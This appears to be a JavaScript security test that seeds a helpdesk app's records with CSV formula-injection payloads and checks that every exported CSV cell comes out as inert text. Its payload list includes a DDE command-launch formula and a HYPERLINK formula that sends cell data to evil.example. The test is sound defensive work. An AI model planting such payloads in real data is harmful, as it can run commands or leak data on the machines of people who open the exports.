// Formulas in exports: what a spreadsheet would run must come out as text, in every cell of every export.
import { newStaff } from '../../access/lib/callers.mjs';
import { fresh } from '../../api/lib/cases.mjs';

const kFormulas = ['=cmd|\' /C calc\'!A0', '+1+1', '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example?"&A1,"x")', '"=1+1', ',=1+1', '\n=1+1', '＝1+1', ';=1+1', '=1+1"', '\u200b=1+1'];

/** The cells of RFC 4180. */
export function cellsOf(text) {
  const rows = [[]];
  for (let [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1).push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '') break;
    if (end !== ',') rows.push([]);
  }
  return rows.filter((row) => row.length > 1 || row[0]);
}

/** Every cell of an export is text or a number. */
export function look(field, answer) {
  if (answer.status !== 200) return;
  field.expect(answer.media === 'text/csv' && /^attachment;/.test(answer.headers.get('content-disposition') ?? ''), 'an export is shown', { ...answer, text: '' });
  const rows = cellsOf(answer.text);
  for (const row of rows) {
    field.expect(row.length === rows[0].length, `a row of ${row.length} cells under ${rows[0].length}: ${row}`, { ...answer, text: '' });
    for (const cell of row) field.expect(!/^\s*[=+\-@\t\r＝]/.test(cell) || /^-?\d+(\.\d+)?$/.test(cell), `a cell that runs: ${cell}`, { ...answer, text: '' });
  }
}

export const csv = {
  name: 'csv',
  async attack(field) {
    const { admin, random, world, customers } = field;
    const evil = () => `${random.pick(kFormulas)} ${fresh('f')}`;
    const team = await field.ask(admin, 'POST', '/teams', { body: { name: evil() } });
    await field.ask(admin, 'POST', '/organisations', { body: { name: evil(), zone: 'UTC', languages: ['en'] } });
    await field.ask(admin, 'POST', '/technologies', { body: { name: evil(), level: 'domain' } });
    const somebody = await newStaff(world, 'agent');
    await field.ask(admin, 'PATCH', `/staff/${somebody.me.id}`, { body: { name: evil() } });
    const opened = await field.ask(customers.a_requester, 'POST', '/portal/tickets', { body: { subject: evil(), body: 'x' } });
    if (opened.json) await field.ask(admin, 'PATCH', `/tickets/${opened.json.id}`, { body: { assignee_id: somebody.me.id, ...(team.json && { team_id: team.json.id }) } });
    const name = evil();
    await field.ask(admin, 'POST', '/rotas', { body: { name: evil(), zone: 'UTC', layers: [{ name, rotation: { unit: 'day', length: 1, start: '2026-03-02T09:00' }, people: [somebody.me.id], restrictions: [] }] } });
    const board = await field.ask(admin, 'GET', '/reports/dashboard');
    const tables = Object.entries(board.json ?? {}).filter(([, value]) => Array.isArray(value)).map(([table]) => table);
    for (const table of [...tables, evil()]) look(field, await field.ask(admin, 'GET', `/reports/dashboard.csv?${new URLSearchParams({ table })}`));
    const load = field.document.operations.find(({ id }) => id === 'getOnCallLoadCsv');
    look(field, await field.ask(admin, 'GET', `${load.path}?from=2026-03-02T00:00:00Z&to=2026-03-16T00:00:00Z`));
  },
};
